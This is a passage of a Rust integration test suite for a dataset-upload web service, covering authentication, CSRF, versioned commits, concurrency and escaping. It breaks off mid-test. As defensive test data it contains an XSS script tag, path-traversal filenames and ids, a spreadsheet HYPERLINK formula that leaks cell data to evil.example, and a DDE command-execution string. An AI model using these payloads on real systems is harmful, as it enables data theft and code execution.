//! The upload flow over HTTP against a real store in a temp dir: sign-in, validate → preview →
//! map → commit, versions kept, bad uploads rejected with the store byte-for-byte unchanged,
//! concurrency, restart persistence and a download → upload round-trip.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use axum::Router;
use axum::body::Body;
use axum::http::{Request, StatusCode};
use nqp::store::Store;
use nqp::web::build_router;
use nqp::web::state::AppState;

use crate::helpers::{Response, fixture};

const TOKEN: &str = "test-admin-token";
const BOUNDARY: &str = "nqp-test-boundary-7MA4YWxkTrZu0gW";

struct StoreApp {
    router: Router,
    state: AppState,
    dir: tempfile::TempDir,
}

/// Every file under the data dir with its bytes (the "byte-for-byte" view of the store).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    fn walk(dir: &Path, out: &mut BTreeMap<PathBuf, Vec<u8>>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, out);
            } else if path.extension().is_none_or(|e| e != "lock") {
                out.insert(path.clone(), std::fs::read(&path).unwrap());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, &mut out);
    out
}

enum Part<'a> {
    Field(&'a str, &'a str),
    File(&'a str, &'a str, &'a [u8]),
}

fn multipart(parts: &[Part<'_>]) -> Vec<u8> {
    let mut body = Vec::new();
    for part in parts {
        body.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        match part {
            Part::Field(name, value) => {
                body.extend_from_slice(
                    format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                        .as_bytes(),
                );
            }
            Part::File(name, file_name, bytes) => {
                body.extend_from_slice(
                    format!(
                        "Content-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\nContent-Type: text/csv\r\n\r\n"
                    )
                    .as_bytes(),
                );
                body.extend_from_slice(bytes);
                body.extend_from_slice(b"\r\n");
            }
        }
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

impl StoreApp {
    fn open(dir: tempfile::TempDir, upload_limit: usize) -> StoreApp {
        let store = Store::open(dir.path()).unwrap();
        store.ensure_admin_token(Some(TOKEN)).unwrap();
        let state = crate::helpers::store_state(store, upload_limit);
        StoreApp {
            router: build_router(state.clone()),
            state,
            dir,
        }
    }

    fn new() -> StoreApp {
        StoreApp::open(tempfile::tempdir().unwrap(), 1024 * 1024)
    }

    async fn send(&self, request: Request<Body>) -> Response {
        crate::helpers::send(&self.router, request).await
    }

    async fn get(&self, uri: &str, cookie: Option<&str>) -> Response {
        let mut req = Request::builder().uri(uri);
        if let Some(c) = cookie {
            req = req.header("cookie", c);
        }
        self.send(req.body(Body::empty()).unwrap()).await
    }

    async fn post_form(&self, uri: &str, cookie: Option<&str>, pairs: &[(&str, &str)]) -> Response {
        let mut req = Request::builder()
            .method("POST")
            .uri(uri)
            .header("content-type", "application/x-www-form-urlencoded");
        if let Some(c) = cookie {
            req = req.header("cookie", c);
        }
        let body = serde_urlencoded::to_string(pairs).unwrap();
        self.send(req.body(Body::from(body)).unwrap()).await
    }

    async fn post_multipart(&self, uri: &str, cookie: Option<&str>, body: Vec<u8>) -> Response {
        let mut req = Request::builder().method("POST").uri(uri).header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        );
        if let Some(c) = cookie {
            req = req.header("cookie", c);
        }
        self.send(req.body(Body::from(body)).unwrap()).await
    }

    /// Sign in; returns (cookie header value, CSRF token).
    async fn sign_in(&self) -> (String, String) {
        let res = self
            .post_form("/login?lang=en", None, &[("token", TOKEN)])
            .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
        let set_cookie = res.headers["set-cookie"].to_str().unwrap().to_owned();
        assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"));
        let cookie = set_cookie.split(';').next().unwrap().to_owned();
        let form = self.get("/datasets/new?lang=en", Some(&cookie)).await;
        assert_eq!(form.status, StatusCode::OK);
        let csrf = form.select_attrs("input[name=csrf]", "value")[0].clone();
        (cookie, csrf)
    }

    /// Upload files into a new dataset; returns the response (303 to the preview on success).
    async fn upload_new(
        &self,
        cookie: &str,
        csrf: &str,
        id: &str,
        files: &[(&str, &[u8])],
    ) -> Response {
        let mut parts = vec![
            Part::Field("csrf", csrf),
            Part::Field("target", "new"),
            Part::Field("new_id", id),
            Part::Field("title_zh", "测试"),
            Part::Field("title_en", "Test"),
        ];
        for (name, bytes) in files {
            parts.push(Part::File("files", name, bytes));
        }
        self.post_multipart("/datasets/new?lang=en", Some(cookie), multipart(&parts))
            .await
    }
}

fn location(res: &Response) -> String {
    res.headers["location"].to_str().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn reading_is_public_changing_needs_a_session() {
    let app = StoreApp::new();
    let before = snapshot(app.dir.path());
    let list = app.get("/datasets?lang=en", None).await;
    assert_eq!(list.status, StatusCode::OK);
    assert_eq!(list.count("form#login"), 1);
    assert!(list.body.contains("cn-provinces"));
    assert_eq!(
        app.get("/datasets/new?lang=en", None).await.status,
        StatusCode::UNAUTHORIZED
    );
    let anonymous = app
        .post_multipart(
            "/datasets/new",
            None,
            multipart(&[Part::File("files", "a.csv", b"region,year,x\nA,2020,1\n")]),
        )
        .await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    let wrong = app
        .post_form("/login?lang=zh", None, &[("token", "nope")])
        .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    assert!(wrong.body.contains("访问令牌无效"));
    assert_eq!(snapshot(app.dir.path()), before, "nothing stored");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let export = std::fs::read(fixture("csv/nbs_export_gbk_crlf.csv")).unwrap();
    let body = multipart(&[
        Part::Field("csrf", &csrf),
        Part::Field("target", "existing"),
        Part::Field("existing_id", "cn-provinces-recent"),
        Part::File("files", "分省年度数据.csv", &export),
    ]);
    let res = app
        .post_multipart("/datasets/new?lang=en", Some(&cookie), body)
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview_url = location(&res);
    let preview = app.get(&preview_url, Some(&cookie)).await;
    assert_eq!(preview.status, StatusCode::OK);
    let file_row = preview.select_texts("table#files-table tbody td");
    assert_eq!(file_row[0], "gb18030");
    assert_eq!(file_row[1], "nbs");
    assert_eq!(preview.select_texts("#region-set"), vec!["cn-provinces"]);
    assert_eq!(
        preview.count("fieldset.mapping"),
        1,
        "one new indicator to map"
    );

    // Committed from a page that was showing another dataset: the new version replaces it.
    let commit_url =
        preview.select_attrs("form#commit", "action")[0].clone() + "&dataset=other&v=9";
    let res = app
        .post_form(
            &commit_url,
            Some(&cookie),
            &[
                ("csrf", &csrf),
                ("map.0.include", "on"),
                ("map.0.id", "rd_staff"),
                ("map.0.name_en", "R&D staff"),
                ("map.0.dimension", "laborers"),
                ("map.0.direction", "+"),
                ("map.0.unit", "万人"),
            ],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let view = location(&res);
    assert!(
        view.contains("dataset=cn-provinces-recent") && view.contains("v=2"),
        "{view}"
    );
    let page = app.get(&view, None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.select_texts("footer").join(" ").contains("v2"));
    // The new indicator is in version 2's framework; version 1 is untouched and still served.
    let framework = app
        .get("/datasets/cn-provinces-recent/2/framework.toml", None)
        .await;
    assert!(framework.body.contains("id = \"rd_staff\""));
    assert!(
        framework
            .body
            .contains("aliases = [\"研究与试验发展(R&D)人员(人口抽样调查)\"]")
    );
    let v1 = app
        .get("/datasets/cn-provinces-recent/1/framework.toml", None)
        .await;
    assert!(!v1.body.contains("rd_staff"));
    assert_eq!(
        app.get("/?lang=en&dataset=cn-provinces-recent&v=1", None)
            .await
            .status,
        StatusCode::OK
    );
    let list = app.get("/datasets?lang=en", None).await;
    assert_eq!(
        list.count("#dataset-cn-provinces-recent table.versions tbody tr"),
        2
    );
    // The staged upload is gone once committed.
    assert_eq!(
        app.get(&preview_url, Some(&cookie)).await.status,
        StatusCode::NOT_FOUND
    );
}

/// Every malformed file of tests/fixtures/bad is rejected with a 4xx page naming the problem,
/// and the store is byte-for-byte what it was.
#[tokio::test(flavor = "multi_thread")]
async fn bad_uploads_change_nothing() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let before = snapshot(app.dir.path());
    let mut checked = 0;
    let mut entries: Vec<_> = std::fs::read_dir(fixture("bad"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for path in entries {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name == "README.md" {
            continue;
        }
        let bytes = std::fs::read(&path).unwrap();
        let res = app
            .upload_new(&cookie, &csrf, "bad-upload", &[(&name, &bytes)])
            .await;
        // Some "bad" inputs are recoverable (blank lines, missing values): those validate and
        // are only staged — a preview, never a stored version.
        if res.status == StatusCode::SEE_OTHER {
            assert!(location(&res).contains("/datasets/uploads/"), "{name}");
        } else {
            assert!(res.status.is_client_error(), "{name}: {}", res.status);
            assert!(
                res.body.contains(&name) || res.status == StatusCode::UNPROCESSABLE_ENTITY,
                "{name}: {}",
                res.body
            );
            checked += 1;
        }
        assert_eq!(snapshot(app.dir.path()), before, "{name} changed the store");
    }
    assert!(checked >= 25, "only {checked} bad files rejected");

    // More ways to be wrong.
    let good = b"region,year,indicator,value\nCN-BJ,2020,x,1\n".to_vec();
    let cases: Vec<(&str, Response, StatusCode)> = vec![
        (
            "missing CSRF",
            app.post_multipart(
                "/datasets/new?lang=en",
                Some(&cookie),
                multipart(&[
                    Part::Field("target", "new"),
                    Part::Field("new_id", "a"),
                    Part::File("files", "a.csv", &good),
                ]),
            )
            .await,
            StatusCode::FORBIDDEN,
        ),
        (
            "wrong CSRF",
            app.post_multipart(
                "/datasets/new?lang=en",
                Some(&cookie),
                multipart(&[
                    Part::Field("csrf", "forged"),
                    Part::Field("target", "new"),
                    Part::Field("new_id", "a"),
                    Part::File("files", "a.csv", &good),
                ]),
            )
            .await,
            StatusCode::FORBIDDEN,
        ),
        (
            "no file",
            app.upload_new(&cookie, &csrf, "a", &[]).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "bad dataset id",
            app.upload_new(&cookie, &csrf, "../etc", &[("a.csv", &good)])
                .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "id taken",
            app.upload_new(&cookie, &csrf, "cn-provinces", &[("a.csv", &good)])
                .await,
            StatusCode::CONFLICT,
        ),
        (
            "huge",
            app.upload_new(
                &cookie,
                &csrf,
                "huge",
                &[("huge.csv", &vec![b'1'; 2 * 1024 * 1024])],
            )
            .await,
            StatusCode::PAYLOAD_TOO_LARGE,
        ),
        (
            "same indicator twice across files",
            app.upload_new(&cookie, &csrf, "dup", &[("a.csv", &good), ("b.csv", &good)])
                .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "commit without session",
            app.post_form("/datasets/uploads/x/commit", None, &[("csrf", &csrf)])
                .await,
            StatusCode::UNAUTHORIZED,
        ),
        (
            "delete without CSRF",
            app.post_form("/datasets/cn-provinces/delete", Some(&cookie), &[])
                .await,
            StatusCode::FORBIDDEN,
        ),
    ];
    for (what, res, status) in cases {
        assert_eq!(res.status, status, "{what}: {}", res.body);
        assert_eq!(snapshot(app.dir.path()), before, "{what} changed the store");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_are_escaped_and_paths_ignored() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let csv = "region,year,indicator,value\nCN-BJ,2020,<script>alert(1)</script>,1\nCN-BJ,2021,<script>alert(1)</script>,2\n";
    let res = app
        .upload_new(
            &cookie,
            &csrf,
            "xss",
            &[("../../../tmp/evil<b>.csv", csv.as_bytes())],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get(&location(&res), Some(&cookie)).await;
    assert_eq!(preview.count("script:not([src])"), 0);
    assert!(preview.body.contains("&lt;script&gt;") || preview.body.contains("&#60;script&#62;"));
    let names = preview.select_texts("table#files-table tbody th");
    assert_eq!(
        names,
        vec!["evil<b>.csv"],
        "directories stripped, shown as text"
    );
    assert!(!Path::new("/tmp/evil<b>.csv").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn download_then_upload_gives_the_same_scores_and_survives_a_restart() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let panel = app.get("/datasets/cn-provinces/1/panel.csv", None).await;
    assert_eq!(panel.status, StatusCode::OK);
    let framework = app
        .get("/datasets/cn-provinces/1/framework.toml", None)
        .await;
    let body = multipart(&[
        Part::Field("csrf", &csrf),
        Part::Field("target", "new"),
        Part::Field("new_id", "round-trip"),
        Part::Field("title_en", "Round trip"),
        Part::File("files", "panel.csv", panel.body.as_bytes()),
        Part::File("framework", "framework.toml", framework.body.as_bytes()),
    ]);
    let res = app
        .post_multipart("/datasets/new?lang=en", Some(&cookie), body)
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get(&location(&res), Some(&cookie)).await;
    let commit_url = preview.select_attrs("form#commit", "action")[0].clone();
    let res = app
        .post_form(&commit_url, Some(&cookie), &[("csrf", &csrf)])
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);

    let scores = |page: &Response| page.select_texts("table#rankings tbody tr td:nth-of-type(4)");
    let original = app
        .get("/?lang=en&dataset=cn-provinces&v=1&year=2019", None)
        .await;
    let copy = app
        .get("/?lang=en&dataset=round-trip&year=2019", None)
        .await;
    assert_eq!(copy.status, StatusCode::OK);
    assert_eq!(scores(&original), scores(&copy));
    assert_eq!(scores(&copy).len(), 31);

    // Restart: a new state over the same data dir serves the same datasets.
    let dir = app.dir;
    drop(app.router);
    drop(app.state);
    let again = StoreApp::open(dir, 1024 * 1024);
    let copy_again = again
        .get("/?lang=en&dataset=round-trip&year=2019", None)
        .await;
    assert_eq!(scores(&copy_again), scores(&copy));
}

#[tokio::test(flavor = "multi_thread")]
async fn concurrent_uploads_both_commit() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let commit = |id: &'static str, n: u32| {
        let (cookie, csrf, csv) = (cookie.clone(), csrf.clone(), lto_csv(2020..2023, n));
        let app = &app;
        async move {
            let res = app
                .upload_new(&cookie, &csrf, id, &[("p.csv", csv.as_bytes())])
                .await;
            assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
            let url = app.commit_url(&cookie, &res).await;
            let form = lto_mapping(&csrf);
            let pairs: Vec<(&str, &str)> =
                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            app.post_form(&url, Some(&cookie), &pairs).await
        }
    };
    let (a, b) = tokio::join!(commit("one", 1), commit("two", 50));
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(b.status, StatusCode::SEE_OTHER, "{}", b.body);
    let list = app.get("/datasets?lang=en", None).await;
    assert_eq!(list.count("#dataset-one table.versions tbody tr"), 1);
    assert_eq!(list.count("#dataset-two table.versions tbody tr"), 1);
    // The rankings page offers every dataset; choosing one shows its latest version.
    let home = app.get("/?lang=en", None).await;
    let options = home.select_attrs("#dataset-select option", "value");
    assert_eq!(
        options,
        vec!["cn-provinces", "cn-provinces-recent", "one", "two"]
    );
    assert_eq!(
        home.count("form.controls input[type=hidden][name=dataset]"),
        0
    );
    let two = app.get("/?lang=en&dataset=two", None).await;
    assert_eq!(two.count("table#rankings tbody tr"), 3);
    assert_eq!(
        two.select_attrs("#dataset-select option[selected]", "value"),
        vec!["two"]
    );
}

/// Three provinces × `years` of the indicators `l`, `t`, `o`, values shifted by `shift`.
fn lto_csv(years: std::ops::Range<i32>, shift: u32) -> String {
    let mut csv = String::from("region,year,indicator,value\n");
    for (i, region) in ["CN-BJ", "CN-SH", "CN-GD"].iter().enumerate() {
        for year in years.clone() {
            for (k, ind) in ["l", "t", "o"].iter().enumerate() {
                let value = shift + (i * 7 + k * 3) as u32 + year as u32 % 5;
                csv.push_str(&format!("{region},{year},{ind},{value}\n"));
            }
        }
    }
    csv
}

/// The form fields that score the new indicators `l`, `t`, `o` (in the preview's name order).
fn lto_mapping(csrf: &str) -> Vec<(String, String)> {
    let mut form = vec![("csrf".to_owned(), csrf.to_owned())];
    for (i, (ind, dim)) in [("l", "laborers"), ("o", "objects"), ("t", "tools")]
        .iter()
        .enumerate()
    {
        form.push((format!("map.{i}.include"), "on".into()));
        form.push((format!("map.{i}.id"), (*ind).into()));
        form.push((format!("map.{i}.dimension"), (*dim).into()));
        form.push((format!("map.{i}.direction"), "+".into()));
    }
    form
}

impl StoreApp {
    /// Upload files into the existing dataset `id`; the commit URL of its preview.
    async fn stage_existing(&self, cookie: &str, csrf: &str, id: &str, csv: &str) -> String {
        let body = multipart(&[
            Part::Field("csrf", csrf),
            Part::Field("target", "existing"),
            Part::Field("existing_id", id),
            Part::File("files", "more.csv", csv.as_bytes()),
        ]);
        let res = self
            .post_multipart("/datasets/new?lang=en", Some(cookie), body)
            .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
        self.commit_url(cookie, &res).await
    }

    /// The commit URL of the preview a successful upload redirected to.
    async fn commit_url(&self, cookie: &str, uploaded: &Response) -> String {
        let preview = self.get(&location(uploaded), Some(cookie)).await;
        preview.select_attrs("form#commit", "action")[0].clone()
    }

    /// Post both commit forms at the same time: exactly one 303 and one 409. Returns the 409
    /// page and which of the two won.
    async fn commit_race(
        &self,
        cookie: &str,
        urls: [String; 2],
        form: &[(String, String)],
    ) -> (Response, usize) {
        let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let (a, b) = tokio::join!(
            self.post_form(&urls[0], Some(cookie), &pairs),
            self.post_form(&urls[1], Some(cookie), &pairs)
        );
        let mut statuses = [a.status.as_u16(), b.status.as_u16()];
        statuses.sort();
        assert_eq!(statuses, [303, 409], "{} / {}", a.body, b.body);
        if a.status == StatusCode::SEE_OTHER {
            (b, 0)
        } else {
            (a, 1)
        }
    }
}

/// Two previews of the same state committed at once through the pages: one is stored, the
/// other answers 409 telling the user (in Chinese or English) to review the upload again; sent
/// again it is stored on top, so nothing is lost.
#[tokio::test(flavor = "multi_thread")]
async fn concurrent_commits_store_one_and_ask_to_review_the_other() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;

    // A new dataset reviewed twice while its id was free; committed from Chinese pages.
    let csvs = [lto_csv(2020..2023, 1), lto_csv(2020..2023, 50)];
    let mut urls = Vec::new();
    for csv in &csvs {
        let res = app
            .upload_new(&cookie, &csrf, "twin", &[("p.csv", csv.as_bytes())])
            .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
        urls.push(
            app.commit_url(&cookie, &res)
                .await
                .replace("lang=en", "lang=zh"),
        );
    }
    let urls: [String; 2] = urls.try_into().unwrap();
    assert!(urls[0].contains("lang=zh"), "{}", urls[0]);
    let (refused, winner) = app.commit_race(&cookie, urls, &lto_mapping(&csrf)).await;
    assert!(
        refused.body.contains("该数据集编号在此期间已被占用"),
        "{}",
        refused.body
    );
    let v1 = app.get("/datasets/twin/1/panel.csv", None).await.body;
    let first_row = format!("CN-BJ,2020,l,{}", [1, 50][winner]);
    assert!(v1.contains(&first_row), "{v1}");

    // Two new years reviewed against version 1; committed from English pages.
    let years = [lto_csv(2023..2024, 3), lto_csv(2024..2025, 9)];
    let urls = [
        app.stage_existing(&cookie, &csrf, "twin", &years[0]).await,
        app.stage_existing(&cookie, &csrf, "twin", &years[1]).await,
    ];
    let (refused, winner) = app
        .commit_race(&cookie, urls.clone(), &[("csrf".into(), csrf.clone())])
        .await;
    assert!(
        refused.body.contains("changed meanwhile")
            && refused.body.contains("review the upload again"),
        "{}",
        refused.body
    );
    // Its preview is stale, so the refused upload is not kept for a retry.
    let retry = app
        .post_form(&urls[1 - winner], Some(&cookie), &[("csrf", &csrf)])
        .await;
    assert_eq!(retry.status, StatusCode::NOT_FOUND, "{}", retry.body);
    let list = app.get("/datasets?lang=en", None).await;
    assert_eq!(list.count("#dataset-twin table.versions tbody tr"), 2);

    // Reviewed again, the refused upload becomes version 3, on top of both earlier commits.
    let url = app
        .stage_existing(&cookie, &csrf, "twin", &years[1 - winner])
        .await;
    let res = app.post_form(&url, Some(&cookie), &[("csrf", &csrf)]).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let v3 = app.get("/datasets/twin/3/panel.csv", None).await.body;
    for year in ["2020", "2023", "2024"] {
        assert!(v3.contains(&format!("CN-GD,{year},o,")), "{year}: {v3}");
    }
    assert!(v3.contains(&first_row), "{v3}");
    assert_eq!(v3.lines().count(), 1 + 3 * 3 * 5);
}

/// The raw `panel.csv` of a version goes through the same formula-injection guard as the
/// `/download` routes: a name a spreadsheet would run as a formula gets a leading apostrophe,
/// numbers (negative ones too) stay numbers.
#[tokio::test(flavor = "multi_thread")]
async fn the_raw_panel_csv_neutralises_formulas() {
    let app = StoreApp::new();
    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";
    let frame = polars::prelude::df!(
        "region" => ["CN-BJ", "@SUM(A1:A9)", "CN-SH"],
        "year" => [2020i32, 2020, 2021],
        "indicator" => [evil, "gdp", "-cmd|' /C calc'!A0"],
        "value" => [Some(1.5), Some(-2.25), None],
    )
    .unwrap();
    let panel = nqp::types::Panel::new(frame).unwrap();
    let id = nqp::types::DatasetId::new("evil").unwrap();
    Store::open(app.dir.path())
        .unwrap()
        .put_version(
            nqp::store::NewVersion {
                dataset: &id,
                base: nqp::store::Base::New,
                title_zh: "恶意",
                title_en: "Evil",
                panel: &panel,
                framework_toml: "",
                region_set_id: None,
                source_files: &[],
                note: "",
            },
            "test",
        )
        .unwrap();
    let res = app.get("/datasets/evil/1/panel.csv", None).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    assert_eq!(res.headers["content-type"], "text/csv; charset=utf-8");
    let bytes = res.body.into_bytes();
    let got = tokio::task::spawn_blocking(move || {
        use polars::prelude::*;
        CsvReader::new(std::io::Cursor::new(bytes))
            .finish()
            .unwrap()
    })
    .await
    .unwrap();
    let text = |name: &str| -> Vec<Option<String>> {
        let column = got.column(name).unwrap().str().unwrap().clone();
        column.iter().map(|v| v.map(str::to_owned)).collect()
    };
    let some =
        |v: &[&str]| -> Vec<Option<String>> { v.iter().map(|s| Some(s.to_string())).collect() };
    assert_eq!(text("region"), some(&["CN-BJ", "'@SUM(A1:A9)", "CN-SH"]));
    assert_eq!(
        text("indicator"),
        some(&[&format!("'{evil}"), "gdp", "'-cmd|' /C calc'!A0"])
    );
    let values: Vec<Option<f64>> = got.column("value").unwrap().f64().unwrap().iter().collect();
    assert_eq!(values, [Some(1.5), Some(-2.25), None]);
    let years: Vec<Option<i64>> = got.column("year").unwrap().i64().unwrap().iter().collect();
    assert_eq!(years, [Some(2020), Some(2020), Some(2021)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn delete_hides_a_dataset_but_keeps_its_files() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let res = app
        .post_form(
            "/datasets/cn-provinces/delete?lang=en",
            Some(&cookie),
            &[("csrf", &csrf)],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let list = app.get("/datasets?lang=en", None).await;
    assert_eq!(list.count("#dataset-cn-provinces"), 0);
    assert_eq!(
        app.get("/?dataset=cn-provinces&lang=en", None).await.status,
        StatusCode::NOT_FOUND
    );
    assert!(
        app.dir
            .path()
            .join("datasets/cn-provinces/1.parquet")
            .exists()
    );
}

fn shared_data() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/data")
}

/// Every real file under ../shared/data/cn-* goes through the browser upload: statistics files
/// validate with their 31 provinces; files that are not statistics tables (data dictionaries,
/// source records, R binaries) get a clear 4xx page and change nothing. Then four new NBS
/// indicators are committed as version 2 of the bundled dataset.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs ../shared/data"]
async fn every_real_file_uploads_through_http() {
    let app = StoreApp::open(tempfile::tempdir().unwrap(), 64 * 1024 * 1024);
    let (cookie, csrf) = app.sign_in().await;
    let before = snapshot(app.dir.path());
    let not_tables = [
        "openclimate_ceads_provinces_DataSource.csv",
        "openclimate_ceads_provinces_DataSourceTag.csv",
        "openclimate_ceads_provinces_Publisher.csv",
        "openclimate_ceads_provinces_Tag.csv",
        // CEADs names its region column `actor_id`; the error says which columns it found.
        "openclimate_ceads_provinces_EmissionsAgg.csv",
        "techme_BasicProvince.csv",
        "techme_varsList_v4_v6.csv",
    ];
    let mut files = Vec::new();
    for dir in [
        "cn-nbs-exports",
        "cn-nbs-population",
        "cn-st-yearbook",
        "cn-st-yearbook/rda",
        "cn-co2-ceads",
    ] {
        for entry in std::fs::read_dir(shared_data().join(dir)).unwrap() {
            let path = entry.unwrap().path();
            if path.is_file() {
                files.push(path);
            }
        }
    }
    files.sort();
    assert!(files.len() >= 45, "found only {} files", files.len());
    let (mut staged, mut rejected) = (0, 0);
    for path in &files {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(path).unwrap();
        let res = app
            .upload_new(&cookie, &csrf, "real-file", &[(&name, &bytes)])
            .await;
        let is_table = name.ends_with(".csv") && !not_tables.contains(&name.as_str());
        if is_table {
            assert_eq!(res.status, StatusCode::SEE_OTHER, "{name}: {}", res.body);
            let preview = app.get(&location(&res), Some(&cookie)).await;
            assert_eq!(preview.select_texts("#regions-count"), vec!["31"], "{name}");
            staged += 1;
        } else {
            assert!(res.status.is_client_error(), "{name}: {}", res.status);
            assert!(res.body.contains(&name), "{name}: the error names the file");
            rejected += 1;
        }
        assert_eq!(snapshot(app.dir.path()), before, "{name} changed the store");
    }
    assert_eq!(
        staged,
        8 + 2 + 14,
        "NBS exports, population files and yearbook tables"
    );
    assert!(
        rejected >= 7 + 16,
        "metadata files and the .rda / .xlsx binaries"
    );

    // Four indicators the bundled dataset lacks, committed as its version 2.
    let new_exports = [
        "nbs_fsnd_population_65plus_sample_survey.csv",
        "nbs_fsnd_private_individual_employment.csv",
        "nbs_fsnd_fai_funds_growth.csv",
        // (public-sector staff covers 2006–2011 only: outside the dataset's years, not merged)
        "nbs_fsnd_population_sample_survey.csv",
    ];
    let contents: Vec<Vec<u8>> = new_exports
        .iter()
        .map(|f| std::fs::read(shared_data().join("cn-nbs-exports").join(f)).unwrap())
        .collect();
    let mut parts = vec![
        Part::Field("csrf", &csrf),
        Part::Field("target", "existing"),
        Part::Field("existing_id", "cn-provinces"),
    ];
    for (name, bytes) in new_exports.iter().zip(&contents) {
        parts.push(Part::File("files", name, bytes));
    }
    let res = app
        .post_multipart("/datasets/new?lang=zh", Some(&cookie), multipart(&parts))
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get(&location(&res), Some(&cookie)).await;
    assert_eq!(
        preview.count("fieldset.mapping"),
        4,
        "four new indicators to map"
    );
    let commit_url = preview.select_attrs("form#commit", "action")[0].clone();
    let mut form: Vec<(String, String)> = vec![("csrf".into(), csrf.clone())];
    for (i, dim) in ["laborers", "laborers", "tools", "laborers"]
        .iter()
        .enumerate()
    {
        form.push((format!("map.{i}.include"), "on".into()));
        form.push((format!("map.{i}.id"), format!("nbs_new_{i}")));
        form.push((format!("map.{i}.dimension"), (*dim).into()));
        form.push((format!("map.{i}.direction"), "+".into()));
    }
    let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let res = app.post_form(&commit_url, Some(&cookie), &pairs).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    assert!(location(&res).contains("v=2"));
    let page = app.get(&location(&res), None).await;
    assert_eq!(page.status, StatusCode::OK);
    let framework = app
        .get("/datasets/cn-provinces/2/framework.toml", None)
        .await;
    for i in 0..4 {
        assert!(framework.body.contains(&format!("id = \"nbs_new_{i}\"")));
    }
    let v1 = app.get("/datasets/cn-provinces/1/panel.csv", None).await;
    let v2 = app.get("/datasets/cn-provinces/2/panel.csv", None).await;
    assert!(v2.body.lines().count() > v1.body.lines().count());
    assert!(v2.body.contains("65岁及以上人口数(人口抽样调查)"));
    // The exports cover 2006–2024; the version keeps the dataset's 2013–2019.
    let years: std::collections::BTreeSet<&str> = v2
        .body
        .lines()
        .skip(1)
        .filter_map(|l| l.split(',').nth(1))
        .collect();
    assert_eq!(years.first(), Some(&"2013"));
    assert_eq!(years.last(), Some(&"2019"));
    let v2_scores = app
        .get("/methodology?lang=en&dataset=cn-provinces&v=2", None)
        .await;
    assert!(
        v2_scores.body.contains("rd_intensity"),
        "the old indicators are still scored"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn one_upload_commits_once_even_when_submitted_twice_at_once() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let export = std::fs::read(fixture("csv/nbs_export_gbk_crlf.csv")).unwrap();
    let body = multipart(&[
        Part::Field("csrf", &csrf),
        Part::Field("target", "existing"),
        Part::Field("existing_id", "cn-provinces-recent"),
        Part::File("files", "export.csv", &export),
    ]);
    let res = app
        .post_multipart("/datasets/new?lang=en", Some(&cookie), body)
        .await;
    let preview = app.get(&location(&res), Some(&cookie)).await;
    let url = preview.select_attrs("form#commit", "action")[0].clone();
    let form = [
        ("csrf", csrf.as_str()),
        ("map.0.include", "on"),
